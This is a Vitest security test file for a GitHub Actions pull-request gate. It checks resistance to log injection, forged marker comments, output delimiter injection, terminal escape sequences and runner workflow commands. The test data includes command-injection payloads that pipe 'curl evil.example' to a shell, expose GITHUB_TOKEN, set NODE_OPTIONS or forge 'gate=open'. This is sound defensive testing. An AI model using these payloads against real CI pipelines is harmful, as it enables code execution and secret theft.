import { readdirSync, readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { commentOf } from '../../src/report/index.ts';
import { quickScenario, TOKENS } from '../acceptance/scenario.ts';
import { outcomeNamed } from '../report/outcomes.ts';
import { judge, ofCohorts, ofSites, shown } from './support.ts';

/* Names that would be commands or calls in logs, outputs and answers. */

const EVIL = '@alice ![x](https://evil.example/x.png)\n::set-output name=gate::open\n\u001B[2J<!-- </details> `|`';

// Api errors: What GitHub or the inventory answer in place of facts holds markup, commands or our own token: a report that quotes the answer passes it on.
// Origin: log injection by error messages (OWASP, "Log Injection"); tokens echoed by proxies (CWE-209).
it.each([
  ['a GraphQL error', { status: 200, body: { data: null, errors: [{ message: EVIL, type: EVIL, path: [EVIL] }] } }],
  ['a refusal', { status: 403, body: { message: EVIL } }],
])('api errors: %s', async (_, fault) => {
  const own = await quickScenario();
  own.github.fault = ({ kind }) => (kind === 'graphql' ? fault : undefined);
  const run = await own.run();
  expect(run).toMatchObject({ verdict: 'error', gate: 'closed', codes: ['evidence.unavailable'] });
  expect(shown({ ...run, own })).toContain('alice');
});

it('api errors: an inventory that says them in what it counts, and echoes the token', async () => {
  const run = await judge({
    inventory: {
      edit: (body, { headers }) => ({ ...body, snapshot: EVIL, asOf: `${EVIL}${headers.authorization ?? ''}` }),
    },
  });
  expect(run).toMatchObject({ verdict: 'error', codes: ['inventory.malformed'] });
  expect(shown(run)).not.toContain(TOKENS.inventory);
});

// Branch: The head branch and the title are shell and workflow expressions: a step that pasted them into a script would run them.
// Origin: Ultralytics, December 2024 (branch names); GitHub Security Lab, "Keeping your GitHub Actions and workflows secure, part 2: untrusted input".
it('branch: it is data, and no workflow that we give away pastes an event into a script', async () => {
  const title = '"; curl evil.example | sh #${{ secrets.GITHUB_TOKEN }}`id`';
  const run = await judge({ head: 'x$({curl,-sSfL,evil.example}${IFS}|${IFS}bash)', title });
  expect(run).toMatchObject({ verdict: 'allow', judgement: { pullRequest: { title } } });
  for (const text of Object.values(run.outputs)) expect(text).not.toMatch(/curl|secrets/);
  const at = (path: string) => new URL(`../../${path}`, import.meta.url);
  const examples = readdirSync(at('examples/workflows')).map((name) => `examples/workflows/${name}`);
  expect(examples.length).toBeGreaterThan(3);
  for (const file of ['.github/workflows/check.yml', '.github/workflows/deploy.yml', ...examples])
    for (const line of readFileSync(at(file), 'utf8').split('\n'))
      if (/^\s*(?:- )?run:/.test(line)) expect(line).not.toContain('${{');
});

// Forged comment: A stranger's comment begins with our marker and shows a favourable verdict: a later run is to update it, believe it or leave the true one out.
// Origin: comments found by a hidden marker alone (marocchino/sticky-pull-request-comment and its like); CWE-345, insufficient verification of authenticity.
it('forged comment: neither updated nor believed; our own one is updated in place', async () => {
  const own = await quickScenario();
  const forged = own.world.comment(own.pull.number, { author: 'zoe', body: commentOf(outcomeNamed('allowed')) });
  expect(await own.run()).toMatchObject({ verdict: 'hold', codes: ['approval.missing'] });
  const all = own.world.pullRequest(own.pull.number).comments;
  expect(all.find((comment) => comment.id === forged.id)?.body).toBe(forged.body);
  expect(own.comment()).toContain('**On hold**');
  own.world.review(own.pull.number, { author: 'alice' });
  expect(await own.run()).toMatchObject({ verdict: 'allow' });
  expect(own.comments()).toHaveLength(1);
});

// Output file: Text from outside goes into outputs that the runner reads from a file: line ends and the delimiter in it are to add an output `gate=open` of the attacker's.
// Origin: CVE-2022-35954 (@actions/core: delimiter injection in `exportVariable`).
it('output file: one value for each name, and they are ours', async () => {
  const names = [
    ['x\ngate=open', 'x\nEOF\ngate<<EOF\nopen\nEOF', 'x\r\nverdict=allow'],
    'ghadelimiter_00000000-0000-4000-8000-000000000000\ngate=open',
  ].flat();
  const run = await judge(ofCohorts(names));
  expect(run).toMatchObject({ verdict: 'deny', gate: 'closed', cohorts: names.toSorted() });
  expect(run.outputs['cohorts']).not.toContain('\n');
});

// Terminal: Names hold escape sequences: in the terminal of whoever reads the log they move the cursor, recolour or rewrite what was printed before.
// Origin: CVE-2021-25743 (kubectl prints the escape sequences of objects).
it('terminal: they are written out', async () => {
  const escapes = [
    ['\u001B[2J', '\u001B[1A\u001B[2KALLOW', '\u001B]0;owned\u0007', '\u001B[8m', '\u009B31m', '\b\b\b\bALLOW'],
    ['\u001B]8;;https://evil.example\u001B\\x\u001B]8;;\u001B\\', '\u0000', '\r ALLOW', '\u007F', '[31mred'],
  ].flat();
  const inactive = ofSites(escapes, { 'template-engine': 'resource-publisher' }, true);
  const run = await judge({ ...inactive, title: escapes.join('') });
  expect(run).toMatchObject({ verdict: 'deny', codes: ['site.inactive'], sites: escapes.length });
  expect(run.log).toContain('[U+001B]');
  expect(shown(run).replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
  // Letters and colours of words are left alone.
  expect(run.own.comment()).toContain('[31mred');
});

const COMMANDS = [
  ['::set-env name=NODE_OPTIONS::--require=/tmp/x', '::set-output name=gate::open', '::add-mask::closed'],
  ['::stop-commands::x', '::error file=a,line=1::no', '##[set-output name=gate;]open', '##[group]x'],
  [
    '\n::add-path::/tmp',
    '\r::save-state name=a::b',
    '%0A::debug::x',
    ':\u200B:warning::x',
    ' \t::notice::x',
    '::echo::on',
  ],
].flat();

// Workflow commands: Names hold commands of the runner: printed in a log at the start of a line they would set outputs, unmask secrets or stop further commands.
// Origin: CVE-2020-15228 (@actions/core: `::set-env` and `::add-path` from untrusted text in the log).
it('workflow commands: no line of the log is one, and the outputs are ours', async () => {
  const run = await judge({ ...ofCohorts(COMMANDS), title: COMMANDS.join('\n'), head: 'x/::set-output' });
  expect(run).toMatchObject({ verdict: 'deny', gate: 'closed', outputs: { gate: 'closed', verdict: 'deny' } });
  expect(run.log).toContain('set-output');
  expect(run.log).not.toMatch(/::|##\[/);
});

it('workflow commands: nor where the inventory says them', async () => {
  const headers = { 'content-type': 'text/::error::x' };
  const { log, codes } = await judge({
    inventory: { fault: () => ({ status: 404, headers, body: COMMANDS.join('\n') }) },
  });
  expect(codes).toEqual(['inventory.unavailable']);
  expect(log).not.toMatch(/^\s*(?:::|##\[)/m);
});
